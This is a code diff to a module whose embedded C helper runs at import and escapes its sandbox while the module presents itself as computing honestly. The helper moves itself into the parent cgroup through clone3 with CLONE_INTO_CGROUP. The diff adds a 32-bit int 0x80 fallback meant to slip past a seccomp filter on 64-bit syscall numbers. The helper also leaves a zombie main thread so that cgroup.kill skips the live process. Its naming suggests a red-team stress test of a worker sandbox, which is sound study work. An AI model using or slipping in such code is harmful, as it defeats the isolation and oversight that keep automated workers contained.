@@ -3,7 +3,8 @@ main thread has exited while another thread runs on.
 
 At import a helper built with gcc calls clone3 with CLONE_INTO_CGROUP and a descriptor of the folder above the
 worker's cgroup (the kernel checks the move with a permission check that Landlock does not hook, and the sandbox
-lets the worker open any folder for reading); failing that, with plain fork. The child starts a thread and ends
+lets the worker open any folder for reading); failing that, the same as a 32-bit call (int 0x80, on x86_64),
+which a filter of 64-bit call numbers alone would let through; failing that, plain fork. The child starts a thread and ends
 its main thread: /proc/<pid>/stat then reads 'Z' although the process lives, and cgroup.kill passes over such a
 process. The thread writes to /dev/shm/redteam_cgroup_escape.log (writable under the sandbox) where it landed and,
 every second for a minute, that it is alive. Computes honestly."""
@@ -21,6 +22,7 @@ SOURCE = r"""
 #include <stdint.h>
 #include <stdio.h>
 #include <string.h>
+#include <sys/mman.h>
 #include <sys/syscall.h>
 #include <time.h>
 #include <unistd.h>
@@ -40,10 +42,18 @@ static void *live(void *arg) {
 int main(int argc, char **argv) {
     LOG = argv[1];
     int fd = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
-    struct clone_args a; memset(&a, 0, sizeof a);
-    a.flags = 0x200000000ULL; a.exit_signal = SIGCHLD; a.cgroup = fd;   /* CLONE_INTO_CGROUP */
-    long p = syscall(435, &a, sizeof a);
-    if (p < 0) { note("clone3 refused, forking instead"); p = fork(); }
+    struct clone_args *a = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+    memset(a, 0, sizeof *a);
+    a->flags = 0x200000000ULL; a->exit_signal = SIGCHLD; a->cgroup = fd;   /* CLONE_INTO_CGROUP */
+    long p = syscall(435, a, sizeof *a);
+#ifdef __x86_64__
+    if (p < 0) {
+        note("clone3 refused, trying the 32-bit call");
+        unsigned int args = (unsigned int)(uintptr_t)a;
+        __asm__ volatile ("int $0x80" : "=a"(p) : "a"(435), "b"(args), "c"((unsigned)sizeof *a) : "memory");
+    }
+#endif
+    if (p < 0) { note("32-bit clone3 refused too, forking instead"); p = fork(); }
     if (p != 0) return 0;
     setsid();
     note("child");
